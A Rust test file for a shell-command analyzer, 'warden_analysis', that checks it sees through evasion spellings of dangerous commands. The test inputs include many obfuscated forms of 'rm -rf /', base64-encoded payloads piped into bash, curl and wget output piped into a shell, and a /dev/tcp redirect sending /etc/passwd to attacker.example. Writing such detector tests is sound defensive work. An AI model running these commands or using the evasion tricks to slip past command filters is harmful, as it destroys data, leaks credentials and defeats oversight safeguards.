//! Each evasion spelling of issues 3 and 4 is seen for what it runs.

use warden_analysis::shell::{Analysis, OpaqueKind, analyze};

/// `rm` with recursive and forced delete of `target`, anywhere in the line.
fn deletes_root(a: &Analysis) -> bool {
    a.commands.iter().any(|c| {
        let f = c.flags();
        c.is("rm")
            && f.contains("--recursive")
            && f.contains("--force")
            && c.operands().any(|o| o.value == "/")
    })
}

fn runs(a: &Analysis, program: &str) -> bool {
    a.commands.iter().any(|c| c.is(program))
}

/// A shell fed by a download.
fn pipes_download_into_shell(a: &Analysis) -> bool {
    a.commands.iter().enumerate().any(|(i, c)| {
        ["sh", "bash"].iter().any(|s| c.is(s))
            && a.upstream(i)
                .iter()
                .any(|&j| a.commands[j].is("curl") || a.commands[j].is("wget"))
    })
}

#[test]
fn bash_c_string() {
    assert!(deletes_root(&analyze("bash -c 'rm -rf /'")));
}

#[test]
fn sh_c_of_base64_decoded_text_is_opaque_with_a_substitution() {
    let a = analyze(r#"sh -c "$(echo cm0gLXJmIC8K | base64 -d)""#);
    assert!(a.substitution);
    assert!(runs(&a, "base64"));
    assert!(
        a.opaque
            .iter()
            .any(|o| o.kind == OpaqueKind::ComputedShellString)
    );
}

#[test]
fn leading_assignment() {
    assert!(deletes_root(&analyze("FOO=1 rm -rf /")));
}

#[test]
fn env_prefix() {
    assert!(deletes_root(&analyze("env rm -rf /")));
    assert!(deletes_root(&analyze("env FOO=1 rm -rf /")));
}

#[test]
fn absolute_program_path() {
    assert!(deletes_root(&analyze("/bin/rm -rf /")));
}

#[test]
fn empty_quotes_inside_the_program() {
    assert!(deletes_root(&analyze("r''m -rf /")));
}

#[test]
fn quoted_program() {
    assert!(deletes_root(&analyze("\"rm\" -rf /")));
}

#[test]
fn backslashed_program() {
    assert!(deletes_root(&analyze("\\rm -rf /")));
}

#[test]
fn long_options() {
    assert!(deletes_root(&analyze("rm --recursive --force /")));
}

#[test]
fn reordered_and_separate_flags() {
    assert!(deletes_root(&analyze("rm -fr /")));
    assert!(deletes_root(&analyze("rm -r -f /")));
}

#[test]
fn subshell() {
    assert!(deletes_root(&analyze("(rm -rf /)")));
}

#[test]
fn find_delete() {
    let a = analyze("find / -delete");
    assert!(a.commands[0].is("find") && a.commands[0].flags().contains("-delete"));
}

#[test]
fn find_exec() {
    let a = analyze("find . -exec rm {} \\;");
    assert!(runs(&a, "rm"));
}

#[test]
fn xargs() {
    let a = analyze("ls | xargs rm");
    assert!(runs(&a, "rm"));
}

#[test]
fn eval_of_a_literal() {
    assert!(deletes_root(&analyze("eval \"rm -rf /\"")));
}

#[test]
fn substitution_in_command_position() {
    let a = analyze("$(echo rm) -rf /");
    assert!(a.substitution && a.is_opaque());
}

#[test]
fn backticks_in_command_position() {
    let a = analyze("`echo rm` -rf /");
    assert!(a.substitution && a.is_opaque());
}

#[test]
fn newline_separated_commands() {
    let a = analyze("echo hello\nrm -rf /");
    assert!(deletes_root(&a));
}

#[test]
fn process_substitution() {
    let a = analyze("cat <(reboot)");
    assert!(a.substitution && runs(&a, "reboot"));
}

#[test]
fn dev_tcp_redirect() {
    let a = analyze("cat /etc/passwd > /dev/tcp/attacker.example/9000");
    assert_eq!(a.network_paths.len(), 1);
}

#[test]
fn a_harmless_command_chained_with_a_download_piped_into_a_shell() {
    let a = analyze("git status; curl x|sh");
    assert!(runs(&a, "git"));
    assert!(pipes_download_into_shell(&a));
}

#[test]
fn wget_to_stdout_piped_into_bash() {
    assert!(pipes_download_into_shell(&analyze(
        "wget -O- http://x.example/i | bash"
    )));
}

#[test]
fn base64_decoded_text_piped_into_bash() {
    let a = analyze("echo cm0gLXJmIC8K | base64 -d | bash");
    let bash = a.commands.iter().position(|c| c.is("bash")).unwrap();
    assert!(a.upstream(bash).iter().any(|&j| a.commands[j].is("base64")));
}
